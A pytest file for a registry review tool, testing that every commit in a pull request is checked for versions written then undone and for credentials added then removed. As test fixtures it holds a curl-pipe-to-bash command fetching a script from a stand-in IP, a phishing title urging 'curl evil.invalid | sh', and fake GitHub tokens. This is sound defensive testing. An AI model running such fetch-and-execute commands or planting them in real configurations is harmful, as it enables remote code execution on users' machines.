"""Every commit of a pull request is reviewed (PRQ209, and PRQ192 over ``BASE..HEAD``), and the build
publishes only the states the branch has been in (its first-parent history).

Each test is a real repository: main with a base, a branch ``pr`` with several commits, and the
merges a repository host makes (a merge commit, a rebase merge as a fast-forward)."""

from __future__ import annotations

from pathlib import Path

from gitrepo import GitRepo
from prereq import cli
from prereq.core.gitrepo import Repository
from prereq.index.builder import build_index
from prereq.registry.validate import validate
from prereq.review.review import review
from review_helpers import commit_trees, item, make_pr

CURL = "curl -fsSL http://203.0.113.9/x.sh | bash"


def _base(tmp_path: Path) -> GitRepo:
    """main: nfs 1.0.2, and mnist requiring nfs@~1.0; the branch pr is checked out, nothing on it yet."""
    nfs = item("nfs", "1.0.2", command="mount-nfs")
    mnist = item("mnist", "1.0.0", require=("nfs@~1.0",))
    files = {"prerequisites/nfs.yaml": nfs, "prerequisites/mnist.yaml": mnist}
    return make_pr(tmp_path / "repo", files, {}, commit_head=False)


def _found(reviewed, rule: str) -> list[tuple[str | None, int | None, str]]:
    return [(p.file, p.line, p.message) for p in reviewed.result.problems if p.rule == rule]


def test_a_version_written_then_undone_inside_the_pull_request_is_refused_naming_the_commit(tmp_path: Path) -> None:
    repo = _base(tmp_path)
    restored = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
    bump, _ = commit_trees(
        repo,
        {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command=CURL)},
        {"prerequisites/nfs.yaml": restored},
    )

    reviewed = review(repo.root / "registry", base="main", author="alice")

    [(file, line, message)] = _found(reviewed, "PRQ209")
    assert (file, line) == ("prerequisites/nfs.yaml", 2)
    assert bump[:10] in message and "item nfs 1.0.3" in message
    [hint] = [p.hint for p in reviewed.result.problems if p.rule == "PRQ209"]
    assert "squash" in hint and "git rebase -i main" in hint
    assert not reviewed.impact.trivially_safe


def test_the_cli_exits_1_and_says_where(tmp_path: Path, capsys, monkeypatch) -> None:
    repo = _base(tmp_path)
    restored = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
    bump, _ = commit_trees(
        repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command=CURL)}, {"prerequisites/nfs.yaml": restored}
    )
    monkeypatch.chdir(repo.root)

    assert cli.main(["validate", "registry", "--base", "main", "--author", "alice", "--format", "github"]) == 1

    printed = capsys.readouterr().out
    assert f"::error file=registry/prerequisites/nfs.yaml,line=2,col=10,title=PRQ209::commit {bump[:10]}" in printed


def test_work_in_progress_commits_of_the_final_version_pass(tmp_path: Path) -> None:
    """An honest pull request: the bump in one commit, its fix in the next, a new item grown over two."""
    repo = _base(tmp_path)
    commit_trees(
        repo,
        {
            "prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs --retry"),
            "prerequisites/new.yaml": item("new"),
        },
        {
            "prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs --retry 3"),
            "prerequisites/new.yaml": item("new", extra="description: grown in a second commit\n"),
        },
    )

    reviewed = review(repo.root / "registry", base="main", author="alice")

    assert _found(reviewed, "PRQ209") == []
    assert not reviewed.result.errors


def test_a_version_the_base_published_may_pass_through_as_it_was(tmp_path: Path) -> None:
    """A commit that deletes an item and a later one that restores it holds only the base's version."""
    repo = _base(tmp_path)
    restored = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
    commit_trees(repo, {"prerequisites/nfs.yaml": None}, {"prerequisites/nfs.yaml": restored})

    assert _found(review(repo.root / "registry", base="main", author="alice"), "PRQ209") == []


def test_a_base_version_brought_back_with_other_content_in_a_commit_is_refused(tmp_path: Path) -> None:
    """Once the final tree holds a later version, the newest commit holding 1.0.2 would publish it."""
    repo = _base(tmp_path)
    commit_trees(
        repo,
        {"prerequisites/nfs.yaml": item("nfs", "1.0.2", command=CURL)},
        {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs v3")},
    )

    [(_, _, message)] = _found(review(repo.root / "registry", base="main", author="alice"), "PRQ209")
    assert "nfs 1.0.2 with other content than main publishes" in message


def test_main_merged_into_the_pull_request_is_not_the_pull_requests(tmp_path: Path) -> None:
    """Versions main gained after the branch point came in by a merge: main's own, not refused."""
    repo = _base(tmp_path)
    commit_trees(repo, {"prerequisites/new.yaml": item("new")})
    repo.git("checkout", "-q", "main")
    commit_trees(repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs v3")})
    commit_trees(repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.4", command="mount-nfs v4")})
    repo.git("checkout", "-q", "pr")
    repo.git("merge", "-q", "--no-ff", "-m", "merge main", "main")

    reviewed = review(repo.root / "registry", base="main", author="alice")

    assert _found(reviewed, "PRQ209") == []
    assert not reviewed.result.errors


def test_an_environment_version_only_a_commit_holds_is_refused(tmp_path: Path) -> None:
    repo = _base(tmp_path)
    env = (
        "name: python\nversion: {v}\ntitle: Python\nos: {{name: debian, version: '12'}}\nlanguages: [python]\n"
        "packages: {{python: '3.11.9'}}\nimage: {{uri: 'python:3.11-slim'}}\nowners: [alice]\n"
    )
    commit_trees(repo, {"environments/python/1.0.0.yaml": env.format(v="1.0.0")})
    repo.git("checkout", "-q", "main")
    repo.git("merge", "-q", "--ff-only", "pr")
    repo.git("checkout", "-q", "-b", "pr2")
    commit_trees(
        repo, {"environments/python/1.1.0.yaml": env.format(v="1.1.0")}, {"environments/python/1.1.0.yaml": None}
    )

    reviewed = review(repo.root / "registry", base="main", author="alice")

    [(file, _, message)] = _found(reviewed, "PRQ209")
    assert file == "environments/python/1.1.0.yaml" and "environment python 1.1" in message


def test_a_credential_added_and_removed_inside_the_pull_request_is_found(tmp_path: Path) -> None:
    repo = _base(tmp_path)
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    commit_trees(
        repo,
        {"prerequisites/new.yaml": item("new", command=f"export GH_TOKEN={token}")},
        {"prerequisites/new.yaml": item("new", command="echo ready")},
    )

    reviewed = review(repo.root / "registry", base="main", author="alice")

    [(file, _, message)] = _found(reviewed, "PRQ192")
    assert file == "prerequisites/new.yaml" and "new 1.0.0" in message


def _published(repo: GitRepo) -> dict[str, list[str]]:
    built = build_index(validate(repo.root / "registry"), repo=Repository.find(repo.root))
    return {name: [v["version"] for v in document["versions"]] for name, document in built.items.items()}


def test_a_merge_commit_publishes_the_merge_result_never_its_branch_commits(tmp_path: Path) -> None:
    repo = _base(tmp_path)
    restored = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
    commit_trees(
        repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command=CURL)}, {"prerequisites/nfs.yaml": restored}
    )
    repo.git("checkout", "-q", "main")
    repo.git("merge", "-q", "--no-ff", "-m", "merge pr", "pr")

    assert "1.0.3" not in _published(repo)["nfs"]


def test_a_rebase_merge_puts_every_commit_on_main_so_the_review_must_see_them(tmp_path: Path) -> None:
    """Why PRQ209 exists: fast-forwarded (as a rebase merge does), each commit is a state of main."""
    repo = _base(tmp_path)
    restored = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
    commit_trees(
        repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command=CURL)}, {"prerequisites/nfs.yaml": restored}
    )
    assert _found(review(repo.root / "registry", base="main", author="alice"), "PRQ209")
    repo.git("checkout", "-q", "main")
    repo.git("merge", "-q", "--ff-only", "pr")

    assert "1.0.3" in _published(repo)["nfs"]


def test_a_credential_in_a_catalog_file_added_and_removed_inside_the_pull_request_is_found(tmp_path: Path) -> None:
    repo = _base(tmp_path)
    rights = "rights:\n  - {queue: q1, group: data-team, slots: 2, priority: 0}\n"
    token = "ghp_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2"
    commit_trees(repo, {"rights.yaml": f"groups:\n  {token}: [alice]\n" + rights}, {"rights.yaml": rights})

    found = _found(review(repo.root / "registry", base="main", author="alice"), "PRQ192")

    assert [file for file, _, _ in found] == ["rights.yaml"]


def test_the_final_version_written_differently_in_another_file_is_refused(tmp_path: Path) -> None:
    """A file of another folder claiming the name is read by the build after the final file once the
    version leaves the tree: its content would be published under the final version's number."""
    repo = _base(tmp_path)
    final = item("nfs", "1.0.3", command="mount-nfs v3")
    commit_trees(
        repo,
        {"prerequisites/nfs.yaml": final},
        {"prerequisites/sub/nfs.yaml": item("nfs", "1.0.3", command=CURL)},
        {"prerequisites/sub/nfs.yaml": None},
    )

    [(file, _, message)] = _found(review(repo.root / "registry", base="main", author="alice"), "PRQ209")

    assert file == "prerequisites/sub/nfs.yaml" and "other content than the final tree's" in message


def test_an_old_version_s_descriptions_cannot_be_rewritten_by_a_commit(tmp_path: Path) -> None:
    """The build shows a version's newest content, descriptions included: a commit that writes an older
    version with a new title (then restores the file) would rewrite what the index says of it."""
    repo = _base(tmp_path)
    current = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
    repo.git("checkout", "-q", "main")
    commit_trees(repo, {"prerequisites/nfs.yaml": item("nfs", "1.0.3", command="mount-nfs")})
    newest = (repo.root / "registry/prerequisites/nfs.yaml").read_text(encoding="utf-8")
    repo.git("checkout", "-q", "pr")
    repo.git("merge", "-q", "--ff-only", "main")
    phishing = current.replace("title: nfs test item", 'title: "DEPRECATED: run curl evil.invalid | sh"')
    assert phishing != current
    commit_trees(repo, {"prerequisites/nfs.yaml": phishing}, {"prerequisites/nfs.yaml": newest})

    [(_, _, message)] = _found(review(repo.root / "registry", base="main", author="carol"), "PRQ209")

    assert "nfs 1.0.2 with other content than main publishes" in message


TOKEN = "ghp_" + "Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8"


def test_a_credential_any_commit_wrote_into_the_registry_folder_is_found_once(tmp_path: Path) -> None:
    """Comments, files no loader reads, an intermediate owners.yaml: scanned as text (PRQ211); a value an
    item held is the history scan's (PRQ192), not said twice."""
    repo = _base(tmp_path)
    owners = (repo.root / "registry/owners.yaml").read_text(encoding="utf-8")
    first, _ = commit_trees(
        repo,
        {
            "README.md": f"Use the mirror with GH_TOKEN={TOKEN}\n",
            "owners.yaml": owners + f"# token: {TOKEN}\n",
            "prerequisites/new.yaml": item("new", command=f"export GH_TOKEN={TOKEN}"),
        },
        {"README.md": "Use the mirror.\n", "owners.yaml": owners, "prerequisites/new.yaml": item("new")},
    )

    reviewed = review(repo.root / "registry", base="main", author="alice")

    found = sorted((file, line) for file, line, _ in _found(reviewed, "PRQ211"))
    assert found == [("README.md", 1), ("owners.yaml", owners.count("\n") + 1)]
    assert all(first[:10] in message for _, _, message in _found(reviewed, "PRQ211"))
    assert [file for file, _, _ in _found(reviewed, "PRQ192")] == ["prerequisites/new.yaml"]
    assert TOKEN not in "".join(p.message + p.hint for p in reviewed.result.problems)


def test_a_credential_left_in_a_file_no_loader_reads_is_found(tmp_path: Path) -> None:
    repo = _base(tmp_path)
    commit_trees(repo, {"notes.txt": f"token {TOKEN}\n", "prerequisites/new.yaml": item("new")})

    reviewed = review(repo.root / "registry", base="main", author="alice")

    assert [(file, line) for file, line, _ in _found(reviewed, "PRQ211")] == [("notes.txt", 1)]
    assert not _found(reviewed, "PRQ190"), "the final item is clean: nothing said twice"
